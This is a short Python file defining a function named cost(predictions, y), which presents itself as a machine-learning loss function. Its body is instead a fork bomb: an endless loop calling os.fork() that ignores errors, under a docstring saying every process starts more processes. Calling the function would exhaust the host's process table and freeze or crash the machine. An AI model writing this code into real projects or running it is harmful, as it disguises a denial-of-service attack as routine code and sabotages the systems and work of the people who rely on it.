"""Every process starts more processes."""

import os


def cost(predictions, y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
